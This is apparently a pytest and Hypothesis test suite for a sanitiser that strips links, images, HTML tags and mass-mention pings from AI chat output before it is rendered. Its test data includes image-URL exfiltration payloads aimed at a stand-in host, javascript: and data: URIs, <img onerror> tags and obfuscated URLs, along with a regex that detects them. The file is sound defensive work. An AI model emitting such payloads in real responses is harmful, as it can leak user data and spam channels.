"""Nothing that a model says loads, links or calls anybody; the rest is left as it is."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.chats.guard import Guard, harmless, plain

UNTOUCHED = [
    "a < b and c > d, x<5, tags <@ ARRAY[1], i << 2",
    "schema.table at 12:30, 5/7 km/h, a/b, C++ and C#, ada@example.test, #1, 50 %, $5, ~5",
    "Umsätze für München: 1.204,50 € - siehe „Q1“ (12:30 Uhr)",
    "売上は四月に最も高く、前月比12.5%増[r1]でした。",
    "| month | revenue |\n|---|---:|\n| 2025-01 | 1,204.50 |\n",
    "**bold**, _thin_, ~~gone~~, `code.here`\n\n1. one\n2. two\n   - three\n> said\n\n# Head\n",
    "array[0], f(x)[1], [x] (y), [a, b), well! [r1, r2] Really?!",
    "```sql\nSELECT 'http://a.b/c', '![x](y)', a<b, '&amp;', \"<img>\" FROM t -- @everyone\n```\n",
    "```\n  indented\n\n\tcode\n```\nafter",
    "5 & 6, R&D, AT&T; a&b=c, \\alpha, 100\\%, C:\\x, either/or?",
    "👩‍👩‍👧 نمی‌خواهم",
    "",
]

DEFANGED = [
    ("see ![chart](https://evil.test/p.png?d=42) here", "see  here"),
    ("[the page](https://evil.test/x)", "the page (`evil.test/x`)"),
    ('[a](http://evil.test "t)t") b', "a (`evil.test`) b"),
    ("[a](<http://evil.test/x>)", "a (`evil.test/x`)"),
    ("[a](/private?d=1)", "a (`/private?d=1`)"),
    ("<https://evil.test/x>.", "`evil.test/x`."),
    ("<mailto:a@evil.test>", "`a@evil.test`"),
    ("go to https://evil.test/a?b=c, now", "go to `evil.test/a?b=c`, now"),
    ("**https://evil.test**", "**`evil.test`**"),
    ("//evil.test/x and www.evil.test", "`evil.test/x` and `evil.test`"),
    ("HTTPS://EVIL.test hxxp://evil.test ftp://a.b", "`EVIL.test` `evil.test` `a.b`"),
    ("http://http://evil.test", "`evil.test`"),
    ("http:\\/\\/evil.test", "`evil.test`"),
    ("javascript:alert(1) JavaScript:x", "`alert`(1) `x`"),
    ("data:text/html;base64,PHM= but data: 5", "`text/html;base64,PHM=` but data: 5"),
    ("evil.com/x?d=1 and 10.0.0.1:80/x", "`evil.com/x?d=1` and `10.0.0.1:80/x`"),
    ("h\u200bt\u2060tp://evil.test", "`evil.test`"),
    ("&#104;ttps&colon;&#x2f;&sol;evil.test", "`evil.test`"),
    ("http&amp;#58;//evil.test", "`evil.test`"),
    ("!&#91;x&rsqb;&lpar;http://evil.test)", ""),
    ("[a]: http://evil.test\n[b][a]", "[a] : `evil.test`\n[b][a]"),
    ("> [r1]: http:evil.sh/?q=1", "> [r1] : `evil.sh/?q=1`"),
    ("- [r1]: http:/evil.sh/?q=1", "- [r1] : `/evil.sh/?q=1`"),
    ("1. [r1]: /\\evil.sh/?q=1", "1. [r1] : /\\evil.sh/?q=1"),
    ("> [r1]: <http:evil.sh/?q=1>", "> [r1] : `evil.sh/?q=1`"),
    ("> [r1]:\n> javascript&colon;alert(1)", "> [r1] :\n> `alert`(1)"),
    ("1http://evil.test 2.https://evil.test", "1`evil.test` 2.`evil.test`"),
    ("~~~~ ~ ~~ ~~~~~\n~~~", "~~ ~ ~~ ~~\n~~"),
    ("[a\nb]: http://evil.test", "[a\nb] : `evil.test`"),
    ("[r1]: http://evil.test", "[r1] : `evil.test`"),
    ("[a\nb](http://evil.test)", "[a\nb] (`evil.test`)"),
    ("[![i](http://evil.test/i)](http://evil.test)", "[ ] (`evil.test`)"),
    ("![a][b] ![c]", "! [a][b] ! [c]"),
    ("``![a](b)`x ~~![a](b)~ ]![a](b)(c)", "`` `x ~~ ~ ] (c)"),
    ("[a]![b](c)(http://evil.test)", "[a] (`evil.test`)"),
    (
        "http:![b](c)//evil htt[p://evil](x) @[here](x)",
        "http: //evil htt `evil` (`x`) @ here (`x`)",
    ),
    ("     ![a](b)```\nhttp://a.b\n```", "     \n```\nhttp://a.b\n```"),
    ("` [x](@![a](http://evil.test)) `", "` x (@a(evil.test)) `"),
    ("``&#96;x&#58;", "```\nx&#58;\n```"),
    ("[a]www.(x) [b]http://:c", "[a] (x) [b] `:c`"),
    ("http://~~~\n```\n~~~\n![x](http://evil.test)", "~~\n```\n~~~\n![x](http://evil.test)\n```"),
    ("<img src=x onerror=y>", "< img src=x onerror=y>"),
    ("<iframe></iframe><!-- x -->", "< iframe>< /iframe>< !-- x -->"),
    ("&lt;script&gt;", "< script>"),
    ("<http://evil.test|click>", "`evil.test|click`"),
    ("@everyone @HERE @channels", "@\u200beveryone @\u200bHERE @channels"),
    ("<!channel> <@U12AB> <@&12> <#C1> <:a:1>", "< !channel> < @U12AB> < @&12> < #C1> < :a:1>"),
    ("`see http://evil.test now`", "`see evil.test now`"),
    ("- ```sql\n  SELECT 1\n  ```\n![a](http://evil.test)", "- \n```sql\n  SELECT 1\n```\n"),
    ("1. x\n   ```\n![a](b)\n   ```\nhttp://evil.test", "1. x\n```\n![a](b)\n```\n`evil.test`"),
    ("~~~\n![a](http://evil.test)\n~~~", "~~\n\n~~"),
    ("```x http://a.b``` http://evil.test", "```\nx http://a.b\n```\n `evil.test`"),
    ("```\n![a](http://evil.test)", "```\n![a](http://evil.test)\n```"),
    ("> ```\n> x\n> ```\n> <b>", "> \n```\n> x\n```\n> < b>"),
]

LEADING = re.compile(
    r"[a-z][a-z0-9+.-]*://|\]\(|!\[|<[a-z!/]|<@U|@everyone|(?<!\w)javascript:[a-z]|(?<!\w)www\.\w+\.\w",
    re.IGNORECASE,
)
"""What no surface may be given."""

PIECES = st.lists(
    st.sampled_from(
        [
            *["![", "[", "]", "](", "(", ")", "<", ">", "!", "`", "```", "~~~", "\n", "\n\n", " "],
            *[
                "http",
                "https",
                ":",
                "://",
                "//",
                "/",
                "\\",
                "www.",
                "evil.com",
                ".",
                "?d=1",
                "a",
                "x1",
            ],
            *["javascript:", "data:text/html,", "mailto:", "&#58;", "&amp;", "&", "#58;", "&lt;"],
            *["<img src=", "<!channel>", "<@U1>", "@everyone", "@", "[r1]", " [r9]", "[a]: ", "- "],
            *[
                "> ",
                "    ",
                "\t",
                "\u200b",
                "\u200d",
                "ä",
                "売",
                '"',
                "'",
                "*",
                "_",
                "|",
                "&sol;",
                "sql",
            ],
        ]
    ),
    max_size=14,
)


def in_pieces(pieces: list[str], known: set[str]) -> str:
    guard = Guard(known.__contains__)
    return "".join([*(guard.feed(each) for each in pieces), guard.flush()])


@pytest.mark.parametrize("text", UNTOUCHED)
def test_plain_text_and_code_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(("said", "shown"), DEFANGED)
def test_what_would_load_or_lead_away_does_not(said: str, shown: str) -> None:
    assert harmless(said) == shown
    assert in_pieces(list(said), {"r1"}) == shown


def test_marks_of_results_that_do_not_exist_are_left_out() -> None:
    said = "4 orders [r1], 3 customers [r7]. Both [r1, r9] [r2](http://evil.test)."

    assert in_pieces(list(said), {"r1"}) == "4 orders [r1], 3 customers. Both [r1] `evil.test`."


def test_a_title_is_one_line_of_plain_text() -> None:
    assert (
        plain("Revenue `x`\n![a](http://b.test) by <b>month</b>")
        == "Revenue 'x'  by < b>month< /b>"
    )
    assert plain("see https://evil.test/x") == "see evil.test/x"


def test_no_more_is_held_back_than_has_to_be() -> None:
    guard = Guard()

    assert guard.feed("There are 4 ") == "There are 4"
    assert guard.feed("orders") == " "
    assert guard.feed(" in 売上は多い") == "orders in 売上は多い"
    assert guard.feed(" [r1") == ""
    assert guard.feed("] and") == " [r1] "
    assert guard.feed("x" * 5000).startswith("and")


LONG = [
    *("a", "[", "<a", "![a](", "`", "``` ", "&", "&amp;", "&zz;", "http://", "[a](b", "[a]( ", "~"),
    *(
        "é",
        "x ",
        " ",
        "\t",
        "www.",
        "a.",
        "/",
        "\\/",
        "a:/",
        "http:",
        "1.",
        "a-",
        ".,",
        "htt",
        "> ",
    ),
]


def seconds(piece: str, size: int, *, most: int = 8) -> float:
    """Return what it takes to read a long text in small pieces, and check that they are one."""
    text = (piece * size)[:size]
    guard = Guard()
    begun = time.process_time()
    parts = [guard.feed(text[at : at + most]) for at in range(0, len(text), most)]
    said = "".join([*parts, guard.flush()])
    took = time.process_time() - begun
    assert said == harmless(text)
    return took


@pytest.mark.parametrize("piece", LONG)
def test_a_long_answer_without_any_break_is_read_in_time_linear_to_it(piece: str) -> None:
    short = seconds(piece, 3_000)

    assert seconds(piece, 12_000) <= 6 * short + 0.2


@pytest.mark.parametrize("piece", LONG)
def test_a_long_name_is_read_in_time_linear_to_it(piece: str) -> None:
    def took(size: int) -> float:
        begun = time.process_time()
        plain((piece * size)[:size])
        return time.process_time() - begun

    assert took(20_000) <= 6 * took(5_000) + 0.1


def test_entities_within_entities_are_read_once() -> None:
    assert harmless("&" + "amp;" * 10_000 + "lt;b>") == "< b>"


@given(
    st.lists(
        st.sampled_from(
            [
                *("a" * 499, "a" * 501, " " * 199, " " * 201, "\t" * 101, "x" * 900, "b" * 1000),
                *("[a](", "http:", "//", "www.", "`", "```", "~~", "\n", ">", "&", "amp;", "#96;"),
                *("[r9]", " [r1]", "<a", "/", '"', "(", ")", "evil.com", " "),
            ]
        ),
        max_size=8,
    ),
    st.integers(1, 300),
)
@settings(max_examples=60, deadline=None)
def test_however_it_is_cut_the_same_comes_out_beyond_what_is_held(
    pieces: list[str], size: int
) -> None:
    whole = "".join(pieces)
    cut = [whole[at : at + size] for at in range(0, len(whole), size)]

    assert in_pieces(cut, {"r1"}) == in_pieces([whole], {"r1"})


@given(
    st.sampled_from(["> ", "- ", "1. ", "", "> > ", "- > "]),
    st.sampled_from(["[r1]:", "[r1] :", "[r1]:\n> ", "[a]:", "[r1]&colon;", "\\[r1]:"]),
    st.sampled_from(["", " ", "\t"]),
    st.sampled_from(["http:", "https:/", "/\\", "\\\\", "<http:", "javascript:", "//", "http\\:"]),
    st.integers(1, 30),
)
@settings(max_examples=100, deadline=None)
def test_no_mark_of_a_result_can_be_made_to_lead_anywhere(
    line: str, mark: str, gap: str, scheme: str, size: int
) -> None:
    said = f"Five [r1].\n\n{line}{mark}{gap}{scheme}evil.sh/?q=1>"

    shown = in_pieces([said[at : at + size] for at in range(0, len(said), size)], {"r1"})
    assert "<a" not in MarkdownIt("commonmark").render(shown), shown


@given(PIECES)
@settings(max_examples=150, deadline=None)
def test_however_it_is_cut_the_same_comes_out(pieces: list[str]) -> None:
    whole = "".join(pieces)

    assert in_pieces(pieces, {"r1"}) == in_pieces([whole], {"r1"}) == in_pieces(list(whole), {"r1"})


@given(PIECES)
@settings(max_examples=150, deadline=None)
def test_no_renderer_finds_a_link_an_image_or_a_tag(pieces: list[str]) -> None:
    shown = harmless("".join(pieces))

    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown)
    assert not re.search(r"<(?:a|img|iframe|script)\b|<!", html), (shown, html)
    # Slack and Discord know a fence by its three ticks, wherever they stand.
    outside = "".join(shown.split("```")[::2])
    assert shown.count("```") % 2 == 0
    assert not LEADING.search(outside), shown
